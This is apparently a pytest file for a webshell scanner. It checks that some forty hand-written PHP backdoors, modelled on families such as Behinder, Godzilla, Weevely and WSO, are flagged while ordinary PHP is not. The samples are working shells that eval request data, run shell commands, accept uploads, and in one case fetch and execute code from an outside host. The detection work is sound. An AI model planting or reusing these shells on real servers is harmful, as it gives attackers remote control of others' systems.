"""Shells written by hand after what is known of real ones, and what ordinary code does."""

from collections import Counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detect.content.php_seen import hits, mutations, worst
from hemostat.detect.content.php.scanner import PhpScanner
from hemostat.detect.content.scanner import scanned
from hemostat.detect.content.webscripts.scanner import WebScriptScanner
from hemostat.model.candidate import Candidate
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Provenance

# ruff: noqa: E501, C408 — one shell, one line.
SHELLS = dict(
    behinder=rb"""<?php @error_reporting(0); session_start(); $key="e45e329feb5d925b"; $_SESSION['k']=$key; session_write_close(); $post=file_get_contents("php://input"); if(!extension_loaded('openssl')) { $t="base64_"."decode"; $post=$t($post.""); for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1&15]; } } else { $post=openssl_decrypt($post, "AES128", $key); } $arr=explode('|',$post); $func=$arr[0]; $params=$arr[1]; class C{public function __invoke($p) {eval($p."");}} @call_user_func(new C(),$params);""",
    godzilla=rb"""<?php @session_start(); function encode($D,$K){ for($i=0;$i<strlen($D);$i++){ $c=$K[$i+1&15]; $D[$i]=$D[$i]^$c; } return $D; } $pass='p'; $payloadName='payload'; $key='3c6e0b8a9c15224a'; if (isset($_POST[$pass])){ $data=encode(base64_decode($_POST[$pass]),$key); if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); if (strpos($payload,"getBasicsInfo")===false){ $payload=encode($payload,$key); } eval($payload); echo 1; }else{ if (strpos($data,"getBasicsInfo")!==false){ $_SESSION[$payloadName]=encode($data,$key); } } }""",
    godz2=rb"""<?php session_start(); if(isset($_SESSION['p'])){ eval($_SESSION['p']); } else { $_SESSION['p']=base64_decode($_POST['x']); }""",
    weevely=rb"""<?php $k="abc";$kh="5d41402abc4b";$kf="2a76b9719d91";function x($t,$k){$c=strlen($k);$l=strlen($t);$o="";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t[$i]^$k[$j];}}return $o;} if(@preg_match("/$kh(.+)$kf/",@file_get_contents("php://input"),$m)==1){@ob_start();@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));}""",
    wso=rb"""<?php function wsoEx($in){ $out=''; if(function_exists('exec')){ @exec($in,$out); $out=@join("\n",$out);} elseif(function_exists('passthru')){ passthru($in);} return $out;} function actionConsole(){ echo wsoEx($_POST['p1']); } if(!empty($_POST['a']) && function_exists('action'.$_POST['a'])) call_user_func('action'.$_POST['a']);""",
    comm=rb"""<?php @$_="s"."s"./*-/*-*/"e"./*-/*-*/"r"; @$_=/*-/*-*/"a"./*-/*-*/$_./*-/*-*/"t"; @$_/*-/*-*/($/*-/*-*/{"_P"./*-/*-*/"OS"./*-/*-*/"T"}[/*-/*-*/0/*-/*-*/-/*-/*-*/2]);""",
    rot=rb"""<?php eval(str_rot13('riny($_CBFG[cntr]);'));?>""",
    parse=rb"""<?php parse_str("a=eval&b=assert",$arr); $arr['b']($_POST['x']);""",
    walk=rb"""<?php array_walk($_GET, function($v,$k){ eval($v);});""",
    spread=rb"""<?php $_GET['a'](...$_GET['b']);""",
    ob=rb"""<?php ob_start('system'); echo $_GET['x']; ob_end_flush();""",
    spl=rb"""<?php $f=new SplFileObject($_POST['f'],'w'); $f->fwrite($_POST['c']);""",
    up=rb"""<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form><?php if(copy($_FILES['f']['tmp_name'],$_FILES['f']['name'])) echo "ok";""",
    up2=rb"""<?php move_uploaded_file($_FILES['file']['tmp_name'], getcwd().'/'.$_FILES['file']['name']);""",
    wp=rb"""<?php add_action('wp_head', function(){ if($_GET['x']=='y') { eval(base64_decode($_POST['z'])); }});""",
    cookie=rb"""<?php $a=$_COOKIE;(count($a)==16&&in_array(gettype($a).count($a),$a))?(($a[6]=$a[6].$a[16])&&($a[24]=$a[6]($a[24]))&&($a=$a[24]($a[58],$a[6]($a[30])))&&$a()):$a;""",
    merge=rb"""<?php $c=array_merge($_COOKIE,$_POST); foreach($c as $k=>$v){$v=@unserialize(x(base64_decode($v),$k)); if(isset($v['a'])){ eval($v['d']); }} function x($a,$b){$o='';for($i=0;$i<strlen($a);$i++)$o.=chr(ord($a[$i])^ord($b[$i%strlen($b)]));return $o;}""",
    exif=rb"""<?php $exif=exif_read_data('a.jpg'); preg_replace($exif['Make'],$exif['Model'],'');""",
    globals=rb"""<?php $GLOBALS['_1']=Array(base64_decode('c3lz'.'dGVt'),base64_decode('X0dFVA==')); function _2($i){$a=Array('Y21k');return base64_decode($a[$i]);} $GLOBALS['_1'][0]($_GET[_2(0)]);""",
    hexinc=rb"""<?php /*5a*/ @include "\057hom\145/us\145r/\160ubl\151c_h\164ml/\056fav\151con\0565f.i\143o"; /*5a*/""",
    tail=rb"""<?php $f=fopen(__FILE__,'r'); fseek($f,1234); eval(gzinflate(base64_decode(fread($f,9999))));""",
    curl=rb"""<?php $ch=curl_init("http://203.0.113.4/a.txt"); curl_setopt($ch,CURLOPT_RETURNTRANSFER,1); $x=curl_exec($ch); eval("?>".$x);""",
    ld=rb"""<?php file_put_contents('/tmp/x.so',base64_decode($_POST['so'])); putenv("LD_PRELOAD=/tmp/x.so"); putenv("EVIL_CMDLINE=".$_GET['cmd']); mail("a","","","");""",
    ffi=rb"""<?php $ffi=FFI::cdef("int system(const char *command);"); $ffi->system($_GET['c']);""",
    static=rb"""<?php class A{ private static $f='sys'; public static function r(){ $f=self::$f.'tem'; return $f($_REQUEST['q']); } } A::r();""",
    json=rb"""<?php $d=json_decode(file_get_contents('php://input'),true); $fn=$d['f']; echo $fn(...$d['a']);""",
    ternary=rb"""<?php $c = isset($_REQUEST['c']) ? $_REQUEST['c'] : 'id'; $r = function_exists('shell_exec') ? shell_exec($c) : `$c`; echo "<pre>$r</pre>";""",
    proc=rb"""<?php $p=proc_open($_POST['c'],array(1=>array('pipe','w')),$pipes); echo stream_get_contents($pipes[1]);""",
    cd=rb"""<?php $d=$_POST['d']; $c=$_POST['c']; echo shell_exec("cd $d; $c 2>&1");""",
    mailx=rb"""<?php mail('a','b','c','',$_GET['x']);""",
    heredoc=rb"""<?php $a=<<<X
ev
X;
$b=<<<'Y'
al($_POST[1]);
Y;
assert($a.$b);""",
    iter=rb"""<?php foreach(new CallbackFilterIterator(new ArrayIterator(array($_POST['x'])),'assert') as $x);""",
    strtr=rb"""<?php $m=array('q'=>'s','w'=>'y','e'=>'t','r'=>'e','t'=>'m'); $f=strtr('qwqert',$m); $f($_GET[0]);""",
    inv=rb"""<?php $f = ~"\x8c\x86\x8c\x8b\x9a\x92"; $f($_GET['x']);""",
    ns=rb"""<?php namespace Foo\Bar; use function system as out; out($_GET['x']);""",
    callb=rb"""<?php $o = new ArrayObject([$_GET['c'],1]); $o->uasort('system');""",
    ref=rb"""<?php $r=&$_POST['x']; eval($r);""",
    listx=rb"""<?php [$f,$a]=[$_GET['f'],$_GET['a']]; $f($a);""",
    const=rb"""<?php const F='sys'.'tem'; (F)($_GET['x']);""",
    match=rb"""<?php $f = match(true){ default => 'system' }; $f($_GET['x']);""",
    nullsafe=rb"""<?php $x = $_POST['cmd'] ?? null; if ($x !== null) { passthru($x); }""",
    log=rb"""<?php $l=file('access.log'); eval(base64_decode($l[3]));""",
)

ORDINARY = {
    "template": b"<?php class T { function show($compiled) { eval('?>' . $compiled); } }",
    "phpunit": b"<?php class M { function make($code) { if (!class_exists('X')) { eval($code); } return $_SERVER['argv']; } }",
    "whitelist": b"<?php $a = $_GET['a']; $ok = array('list', 'show'); if (in_array($a, $ok)) { $a($_GET['id']); }",
    "method": b"<?php class C { function run() { $m = $_GET['m'] . 'Action'; return $this->$m($_GET['id']); } } (new C)->run();",
    "escaped": b"<?php echo shell_exec('ping -c 1 ' . escapeshellarg($_GET['host']));",
    "number": b"<?php system('kill ' . (int) $_POST['pid']);",
    "prefix": b"<?php $f = 'page_' . $_GET['p']; $f($_GET['x']);",
    "upload": b"<?php $n = uniqid(); move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $n . '.jpg');",
    "own upload": b"<?php move_uploaded_file($_FILES['f']['tmp_name'], UPLOADS . basename($_FILES['f']['name']));",
    "log": b"<?php file_put_contents('/var/log/app.log', $_POST['message'], FILE_APPEND);",
    "sort": b"<?php usort($list, function ($a, $b) { return strcmp($a['n'], $b['n']); }); echo $_GET['q'];",
    "base64 picture": b"<?php echo '<img src=\"data:image/png;base64,' . base64_encode($d) . '\">'; $x = base64_decode($_POST['p']); save($x);",
    "hooks": b"<?php function run($tag) { foreach ($GLOBALS['hooks'][$tag] as $hook) { call_user_func_array($hook['f'], $hook['a']); } }",
    "ioncube": b"<?php //0046b\nif(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));$__ln='ioncube_loader_'.$__oc.'.so';if(function_exists('dl')){@dl($__ln);}if(function_exists('_il_exec')){return _il_exec();}echo 'missing';exit(199);}?>\nHR+cPmVn2L8T",
    "crypto": b"<?php class A { function f($a, $b) { $x = ''; for ($i = 0; $i < strlen($a); $i++) { $x .= chr(ord($a[$i]) ^ ord($b[$i])); } return $x; } } $k = (new A)->f($_COOKIE['t'], KEY);",
    "sql": b"<?php $q = \"SELECT * FROM `$table` WHERE id = \" . (int) $_GET['id'];",
    "waf word list": b"<?php $bad = array('eval(', 'base64_decode', 'system('); foreach ($bad as $b) { if (strpos($_GET['q'], $b) !== false) die(); }",
}


@pytest.mark.requirement("A5.12", "A5.3", "A5.10", "A4.9")
@pytest.mark.parametrize("name", SHELLS)
def test_a_shell_is_found(name: str) -> None:
    assert worst(SHELLS[name]) >= Level.MEDIUM


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_code_is_left_alone(name: str) -> None:
    assert worst(ORDINARY[name]) < Level.MEDIUM


@pytest.mark.requirement("A5.12")
@pytest.mark.parametrize("seed", [97, 20261122])
def test_unseen_mutations_are_found(seed: int) -> None:
    scanners = (PhpScanner(), WebScriptScanner())
    total: Counter[str] = Counter()
    found: Counter[str] = Counter()
    for sample in mutations().samples(seed, 380):
        path = HostPath(f"/var/www/html/{sample.name}")
        candidate = Candidate(path=path, real_path=path, size=len(sample.content))
        levels = [
            hit.level or hit.rule.level
            for scanner in scanners
            for hit in scanner.scan(candidate, sample.content)
        ]
        total[sample.family] += 1
        found[sample.family] += max(levels, default=Level.INFO) >= Level.MEDIUM
    for family, count in total.items():
        assert found[family] >= 0.9 * count, f"{family}: {found[family]} of {count}"
    assert sum(found.values()) >= 0.97 * sum(total.values())


def test_a_picture_with_code_is_said_to_be_one() -> None:
    content = b"GIF89a\x01\x00\x01\x00" + b"\0" * 30 + b"<?php system($_GET['c']); ?>"
    names = {hit.rule.name for hit in hits(content, "a.gif")}
    assert names == {"linux.content.php-in-a-picture", "linux.content.php-runs-request"}


def test_a_picture_whose_bytes_look_like_an_opening_tag_is_quiet() -> None:
    # Curves of colour profiles hold runs of printable bytes; ten screenshots of one manual had this.
    profile = b"\xff\xd8\xff\xe2\x0cXICC_PROFILE\0\x01<?=@BAIBQC_DsE\xa6F\xabG"
    assert not hits(profile + bytes(range(256)), "photo.jpg")


@pytest.mark.parametrize(
    "code", [b"<?=`$_GET[0]`?>", b"<?= @eval($_POST[1]);", b"<?=system('id')?>"]
)
def test_a_short_tag_with_code_in_a_picture_is_said(code: bytes) -> None:
    picture = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + code + b"\xff\xd9"
    assert any(hit.rule.name.endswith("php-in-a-picture") for hit in hits(picture, "a.jpg"))


def test_a_picture_with_metadata_in_xml_is_quiet() -> None:
    content = (
        b"\xff\xd8\xff\xe1Exif" + b'<?xpacket begin="" id="W5M0"?><x:xmpmeta/>' + b"<? \x91\x00"
    )
    assert hits(content, "a.jpg") == []


def test_what_a_package_delivered_is_not_judged() -> None:
    content = SHELLS["ternary"]
    assert hits(content, state=Provenance.PACKAGED) == []
    assert hits(content, state=Provenance.CHANGED) != []


def test_a_folder_for_uploads_raises_what_is_only_careless() -> None:
    careless = b"<?php system('ping -c 1 ' . $_GET['host']);"
    assert worst(careless) is Level.LOW
    assert worst(careless, reasons=("upload",)) is Level.MEDIUM


@pytest.mark.parametrize("path", ["/tmp/test_upload.py", "/home/ops/src/shells.md"])
def test_php_quoted_in_another_language_is_low_at_most(path: str) -> None:
    place = HostPath(path)
    reasons = frozenset(("temporary", "changed"))
    candidate = Candidate(path=place, real_path=place, size=1, reasons=reasons)
    content = b"SHELL = '<?php @eval($_POST[1]); system(\"ping $_GET[0]\"); ?>'\n"
    quoted, limit = scanned(PhpScanner(), candidate, content + b"<p>text</p>\n" * 160_000)
    assert [(hit.level, hit.confidence) for hit in quoted] == [(Level.LOW, Level.LOW)]
    assert limit == ""
    place = HostPath("/tmp/sess_1")
    candidate = Candidate(path=place, real_path=place, size=1, reasons=reasons)
    assert [hit.level for hit in PhpScanner().scan(candidate, content)] == [Level.CRITICAL]


def test_a_hit_names_line_and_place() -> None:
    content = b"<?php\n// x\n\n  eval($_POST['x']);\n"
    (hit,) = hits(content)
    assert hit.values["line"] == "4"
    assert content[hit.offset : hit.offset + hit.length] == b"eval($_POST['x'])"


SHELL = b"<?php eval($_POST['x']); ?>"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.js", b"const page = `" + SHELL + b"`;"),
        ("a.js", b"write('a.php', '\\n" + SHELL + b"');"),
        ("a.py", b'PAGE = """\n' + SHELL + b'"""\n'),
        ("a.md", b"# How a shell looks\n\n```php\n" + SHELL + b"\n```\n"),
        ("a.js", b"operator:/<<?= eval($_POST['x']) /,punctuation:/[{}]/"),
    ],
)
def test_php_within_quotes_of_another_language_is_no_page(name: str, content: bytes) -> None:
    assert worst(content, name) is Level.LOW
    assert worst(content, name, reasons=("upload",)) is Level.CRITICAL
    assert worst(content, "a.php") is Level.CRITICAL


@pytest.mark.parametrize("before", [b"", b"jQuery(function(){});\n", b"/* v1 */ ", b"a();"])
def test_php_behind_a_script_is_a_page(before: bytes) -> None:
    assert worst(before + SHELL, "a.js") is Level.CRITICAL


@pytest.mark.parametrize(
    "hostile",
    [
        b"eval(" + b"(" * 20_000 + b"$_POST[1]",
        b"[" * 20_000,
        b"{" * 20_000,
        b"$a->b" + b"->b()" * 10_000,
        b"$a=" * 20_000,
        b"/*a" * 100_000,
        b"function f($x){return f(f($x.1)).f($x);} eval(f($_POST[1]));",
        b"$x='eval($x);eval($x);'; eval($x);",
        b'$a="aaaa"; while(1){$a.=$a;} eval($a);',
        b"goto a; a: goto b; b: goto a;",
    ],
)
def test_hostile_code_ends(hostile: bytes) -> None:
    found = hits(b"<?php eval($_POST[0]); " + hostile)
    assert any(hit.rule.name == "linux.content.php-runs-request" for hit in found)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_are_taken(content: bytes) -> None:
    for hit in hits(b"<?php eval($_POST[1]);" + content):
        assert 0 <= hit.offset <= len(content) + 30


@pytest.mark.parametrize(
    ("filler", "limit"),
    [
        (b"$a = 1;\n" * 60_000, "more than 150000 steps"),
        (b"$a" + b"(1" * 3000 + b")" * 3000 + b";", "nested too deeply"),
        (b"?>" + b"<p>text</p>\n" * 160_000, "over 1 MiB"),
    ],
)
def test_what_was_said_before_a_limit_holds_and_the_limit_is_said(
    filler: bytes, limit: str
) -> None:
    path = HostPath("/var/www/html/a.php")
    candidate = Candidate(path=path, real_path=path, size=1)
    hits, said = scanned(PhpScanner(), candidate, b"<?php eval($_POST['x']);\n" + filler)
    assert [hit.level for hit in hits] == [Level.CRITICAL]
    assert limit in said
